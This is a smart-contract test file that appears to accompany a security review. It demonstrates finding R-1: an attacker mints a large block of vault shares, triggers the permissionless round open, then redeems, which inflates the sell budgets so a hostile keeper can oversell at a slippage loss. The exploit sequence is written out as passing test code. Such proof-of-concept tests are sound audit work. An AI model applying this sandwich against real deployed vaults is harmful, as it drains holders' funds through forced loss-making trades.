import { expect } from "chai";
import { ethers } from "hardhat";
import { loadFixture } from "@nomicfoundation/hardhat-network-helpers";
import { encodePath, FEE_TOKEN_HUB } from "../../scripts/lib/market";
import { rebalanceFixture, type Fx } from "../contracts/rebalance/fixture";

/**
 * Review finding R-1 (adversarial review of issue 8 point 4, "keeper bounds hold per target round").
 *
 * A seller's budget is an absolute token amount fixed at the round's FIRST open from the vault's
 * balances at that instant, and the open is permissionless (`performUpkeep`). Anyone can mint a large
 * number of shares right before the open (flash-loaned constituents), trigger the open, and redeem in
 * the same transaction: the vault ends as it was, but every seller's budget is scaled by the temporary
 * supply. A hostile keeper then sells far more than the targets require (each leg may lose up to the
 * slippage bound), and the per-round turnover cap no longer bounds anything. The same happens without an
 * attacker when large holders redeem mid-round: budgets never shrink with the supply.
 *
 * This test PASSES on today's code: it demonstrates the exploit succeeding (the control shows the same
 * trade is refused without the sandwich).
 */
const F = FEE_TOKEN_HUB;

function btcToUni(fx: Fx, amountIn: bigint) {
  const path = encodePath([fx.addr("cbBTC"), fx.addr("USDC"), fx.addr("UNI")], [F, F]);
  return [fx.adapter.target as string, fx.addr("cbBTC"), fx.addr("UNI"), amountIn, 0n, path] as const;
}

describe("review R-1: sell budgets inflated by a mint/redeem around the permissionless open", function () {
  it("control: an honest open caps cbBTC sales at its excess (+1% margin)", async function () {
    const fx = await loadFixture(rebalanceFixture);
    await fx.rebalancer.connect(fx.outsider).performUpkeep("0x"); // Open
    const honest = await fx.rebalancer.sellBudget(fx.addr("cbBTC"));
    await expect(fx.rebalancer.connect(fx.keeper).executeTrade(...btcToUni(fx, 2n * honest)))
      .to.be.revertedWithCustomError(fx.rebalancer, "SellAboveBudget")
      .withArgs(fx.addr("cbBTC"), 2n * honest, honest);
  });

  it("exploit: mint 9x supply, open through performUpkeep, redeem; the keeper may then sell twice the excess", async function () {
    const fx = await loadFixture(rebalanceFixture);
    // The honest budget, for comparison (open on a copy of the state, then roll back).
    const snap = await ethers.provider.send("evm_snapshot", []);
    await fx.rebalancer.connect(fx.outsider).performUpkeep("0x");
    const honest = await fx.rebalancer.sellBudget(fx.addr("cbBTC"));
    await ethers.provider.send("evm_revert", [snap]);

    const supply = await fx.vault.totalSupply();
    const cbBtc = await ethers.getContractAt("IERC20", fx.addr("cbBTC"));
    const vaultBtcBefore = await cbBtc.balanceOf(fx.vault);
    // The sandwich (one transaction through a contract in practice; here three calls by the attacker).
    const big = 9n * supply;
    const [, maxIn] = await fx.vault.previewMint(big);
    await fx.vault.connect(fx.alice).mint(big, fx.alice.address, [...maxIn]);
    await fx.rebalancer.connect(fx.outsider).performUpkeep("0x"); // Open: sides and budgets fixed now
    const [, minOut] = await fx.vault.previewRedeem(big);
    await fx.vault.connect(fx.alice).redeem(big, fx.alice.address, minOut.map(() => 0n)); // fees accrue a block later

    // The vault is back where it was (to rounding), but the budget is ~10x the honest one.
    expect(await fx.vault.totalSupply()).to.be.closeTo(supply, supply / 10_000n); // + fee shares
    // (less the rounding surplus the round trip takes: finding R-3, a separate test)
    expect(await cbBtc.balanceOf(fx.vault)).to.be.closeTo(vaultBtcBefore, 1_000n);
    const inflated = await fx.rebalancer.sellBudget(fx.addr("cbBTC"));
    expect(inflated).to.be.gte(9n * honest);

    // The keeper now sells twice what the targets require in one go; the control shows it is refused
    // without the sandwich. Every extra unit sold may lose up to maxSlippageBps, and it cannot be bought
    // back this round (cbBTC is a seller), so the round cannot even close: the loss is pure churn.
    await expect(fx.rebalancer.connect(fx.keeper).executeTrade(...btcToUni(fx, 2n * honest))).to.emit(
      fx.rebalancer,
      "TradeExecuted",
    );
    expect(await cbBtc.balanceOf(fx.vault)).to.be.lt(vaultBtcBefore - 2n * honest + 1_000n);
  });
});
